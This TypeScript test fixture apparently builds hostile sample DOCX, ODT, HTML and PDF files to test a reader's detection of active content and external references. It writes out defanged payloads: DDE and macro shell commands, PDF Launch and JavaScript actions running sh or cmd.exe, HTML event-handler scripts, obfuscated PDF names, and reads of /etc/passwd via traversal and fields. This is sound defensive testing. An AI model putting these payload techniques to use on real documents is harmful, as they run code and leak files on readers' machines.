import { SAYS } from '../../../fixtures/make/traps/plan.ts';
import { complexField, para, word as raw } from '../../../fixtures/make/traps/word-xml.ts';
import type { ExtraPart } from '../../../fixtures/make/writers/docx/parts.ts';
import { HEADER, NAMESPACES } from '../../../fixtures/make/writers/docx/xml.ts';
import { makeZip } from '../../documents/zip/make-zip.ts';
import { type Control, caseOf, type HostileCase, partly, readAs, told, type Verdict } from '../case.ts';
import { odt, page, pdf, word } from '../control.ts';
import { partsOf, rewritten, withParts } from '../packing.ts';
import { CATALOG, FIRST_PAGE, PAGES, packedPdf, pdfWith, planObjects } from '../pdf-objects.ts';

const active = caseOf('active content');
const outside = caseOf('external references');

/** Nobody listens there: whoever opens it is told so by the system, and a trace of system calls shows it. */
const AWAY = 'http://127.0.0.1:9/taken';
/** What a script or a programme would leave behind if it ran. */
export const SENTINEL = '/tmp/ehc-audit-was-here';

const START = `touch ${SENTINEL}`;

const withField = (instruction: string): (() => Uint8Array) => {
  return () => word({ bodies: { H2: [raw(para(complexField(instruction, SAYS.H2[0] ?? '')))] } });
};

const inside = (id: string, type: string, target: string): string =>
  `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"/>`;

const link = (id: string, type: string, target: string): string =>
  inside(id, type, target).replace('/>', ' TargetMode="External"/>');

const linked = (...links: readonly string[]): (() => Uint8Array) => {
  return () =>
    rewritten('word/_rels/document.xml.rels', (text) =>
      text.replace('</Relationships>', `${links.join('')}</Relationships>`),
    );
};

/** A part that the package does not have. */
const awayPart = (type: string): ExtraPart => ({
  name: `${'../'.repeat(9)}etc/passwd`,
  content: '',
  link: { id: 'x1', type },
  mime: 'text/plain',
});

/** The template that a file was made from is named by its settings. */
const templateAt = (target: string): (() => Uint8Array) => {
  return () => {
    const settings: ExtraPart = {
      name: 'word/settings.xml',
      content: `${HEADER}<w:settings ${NAMESPACES}/>`,
      link: { id: 'x1', type: 'settings' },
      mime: 'text/xml',
    };
    const links = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${link('x1', 'attachedTemplate', target)}</Relationships>`;
    return makeZip([
      ...partsOf(word({}, { extra: [settings] })),
      { name: 'word/_rels/settings.xml.rels', bytes: links },
    ]);
  };
};

const script = (words: string): string => `<script>${words}</script>`;

const RUN = `require('child_process').execSync('${START}')`;

const SHELL = `<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c ${START}) >> >>`;

const runs = (as: Control, says: RegExp): Verdict => told(readAs(as), { 'active-content': says });

const leads = (as: Control, says: RegExp): Verdict => told(readAs(as), { 'outside-references': says });

export const ACTIVE: readonly HostileCase[] = [
  active('active-macro.docm', runs('docx', /macros/), () =>
    withParts({ name: 'word/vbaProject.bin', bytes: `Shell "${START}"` }),
  ),
  active(
    'active-dde.docx',
    runs('docx', /fields that start programs/),
    withField(`DDEAUTO sh "-c ${START}"`),
  ),
  active('active-macro-button.docx', readAs('docx'), withField('MACROBUTTON AutoOpen')),
  active('active-style-map.docx', readAs('docx'), () =>
    withParts({ name: 'mammoth/style-map', bytes: 'p => !' }),
  ),
  active('active-prototype.docx', readAs('docx'), () =>
    rewritten('word/styles.xml', (text) =>
      text.replace(
        '</w:styles>',
        '<w:style w:type="paragraph" w:styleId="__proto__"><w:name w:val="__proto__"/><w:basedOn w:val="constructor"/></w:style></w:styles>',
      ),
    ),
  ),
  active('active-script.html', runs('html', /scripts/), () =>
    page(undefined, script(RUN), script('document.body.innerHTML = ""')),
  ),
  active('active-handlers.html', partly('K', /pictures/), () =>
    page(undefined, '', `<img src=x onerror="${RUN}"><svg onload="${RUN}"></svg>`),
  ),
  active('active-refresh.html', leads('html', /an address that is opened with the file/), () =>
    page(undefined, `<meta http-equiv="refresh" content="0;url=${AWAY}">`),
  ),
  active('active-script.odt', runs('odt', /scripts/), () =>
    odt(undefined, `<text:script script:language="x">${START}</text:script>`),
  ),
  active('active-script.pdf', runs('pdf', /scripts/), () =>
    pdf({ catalog: `/OpenAction << /S /JavaScript /JS (${RUN.replaceAll(/[()]/g, '\\$&')}) >>` }),
  ),
  active('active-script-in-pack.pdf', runs('pdf', /scripts/), () =>
    packedPdf(
      planObjects().set(
        CATALOG,
        `<< /Type /Catalog /Pages ${PAGES} 0 R /OpenAction << /S /J#61vaScript /JS (x) >> >>`,
      ),
    ),
  ),
  active('active-link-in-pack.pdf', runs('pdf', /start programs/), () => {
    const objects = planObjects();
    const annotation = `<< /Type /Annot /Subtype /Link /Rect [9 9 20 20] /A << /S /L#61unch /F (/bin/sh) >> >>`;
    const annotated = (objects.get(FIRST_PAGE) ?? '').replace('/Type /Page', '/Type /Page /Annots [100 0 R]');
    return packedPdf(objects.set(FIRST_PAGE, annotated).set(100, annotation));
  }),
  active('active-page.pdf', runs('pdf', /start programs/), () =>
    pdfWith((objects) => ({
      [FIRST_PAGE]: (objects.get(FIRST_PAGE) ?? '').replace(
        '/Type /Page',
        `/Type /Page /AA << /O ${SHELL} >>`,
      ),
    })),
  ),
  active('active-own-template.docx', readAs('docx'), templateAt('file:///C:\\Users\\writer\\Plan.dotm')),
  outside(
    'outside-template-of-server.docx',
    leads('docx', /a template/),
    templateAt('\\\\server\\share\\Plan.dotm'),
  ),
  active('active-macro.odt', runs('odt', /macros/), () =>
    makeZip([...partsOf(odt()), { name: 'Basic/Standard/Module1.xml', bytes: '<x/>' }]),
  ),
  active('active-empty-libraries.odt', readAs('odt'), () =>
    makeZip([
      ...partsOf(odt()),
      { name: 'Basic/script-lc.xml', bytes: '<x/>' },
      { name: 'Basic/Standard/script-lb.xml', bytes: '<x/>' },
    ]),
  ),
  active('active-launch.pdf', runs('pdf', /start programs/), () => pdf({ catalog: `/OpenAction ${SHELL}` })),
  active('active-names.pdf', runs('pdf', /scripts/), () =>
    pdf({
      catalog: '/Names << /JavaScript << /Names [(a) 100 0 R] >> >>',
      objects: ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>'],
    }),
  ),
  active(
    'active-uri.pdf',
    leads('pdf', /address that is opened with the file, an address that what is filled in is sent to/),
    () =>
      pdf({
        catalog: `/OpenAction << /S /URI /URI (${AWAY}) >> /AA << /WC << /S /SubmitForm /F (${AWAY}) >> >>`,
      }),
  ),
  active('active-font.pdf', readAs('pdf'), () =>
    pdf({
      objects: [
        '<< /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 0 0 1 0 (0\\); throw 1; \\(]) >>',
      ],
    }),
  ),
  outside(
    'outside-styles.docx',
    leads('docx', /parts of the document/),
    linked(link('x1', 'styles', AWAY), link('x2', 'numbering', 'file:///etc/passwd')),
  ),
  outside(
    'outside-template.docx',
    leads('docx', /a template/),
    linked(link('x1', 'attachedTemplate', 'file://127.0.0.1/share/x.dotm')),
  ),
  outside(
    'outside-header.docx',
    leads('docx', /parts of the document/),
    linked(link('x1', 'header', AWAY), link('x2', 'footnotes', AWAY)),
  ),
  outside(
    'outside-way-up.docx',
    readAs('docx'),
    linked(inside('x1', 'footnotes', '../../../../../etc/passwd')),
  ),
  outside('outside-picture.docx', partly('G', /pictures/), () =>
    word({
      bodies: {
        G: [
          raw(
            para(
              `<w:r><w:pict><v:shape style="width:400pt;height:300pt"><v:imagedata r:link="x1" r:id="x1"/></v:shape></w:pict></w:r>`,
            ),
          ),
        ],
      },
    }),
  ),
  outside(
    'outside-text.docx',
    leads('docx', /fetched by fields/),
    withField(`INCLUDETEXT "file:///etc/passwd"`),
  ),
  outside(
    'outside-picture-field.docx',
    leads('docx', /fetched by fields/),
    withField(`INCLUDEPICTURE "${AWAY}"`),
  ),
  outside('outside-insert.docx', partly('G', /inserted/), () =>
    word({ bodies: { G: [raw('<w:altChunk r:id="x1"/>')] } }, { extra: [awayPart('aFChunk')] }),
  ),
  outside('outside-sheets.html', leads('html', /style sheets/), () =>
    page(
      undefined,
      `<link rel="stylesheet" href="${AWAY}"><style>@import url(${AWAY}); p { background: url(${AWAY}) }</style><base href="${AWAY}">`,
    ),
  ),
  outside('outside-picture.odt', partly('K'), () =>
    odt(
      undefined,
      `<text:p><draw:frame svg:width="14cm" svg:height="9cm"><draw:image xlink:href="${AWAY}"/></draw:frame></text:p>`,
    ),
  ),
  outside('outside-section.odt', leads('odt', /linked documents/), () =>
    odt(
      undefined,
      `<text:section text:name="x"><text:section-source xlink:href="file:///etc/passwd"/><text:p>None.</text:p></text:section>`,
    ),
  ),
  outside('outside-stream.pdf', readAs('pdf'), () =>
    pdf({ objects: ['<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream'] }),
  ),
  outside('outside-jump.pdf', leads('pdf', /a document/), () =>
    pdf({ catalog: '/OpenAction << /S /GoToR /F (//127.0.0.1/share/x.pdf) /D [0 /Fit] >>' }),
  ),
];
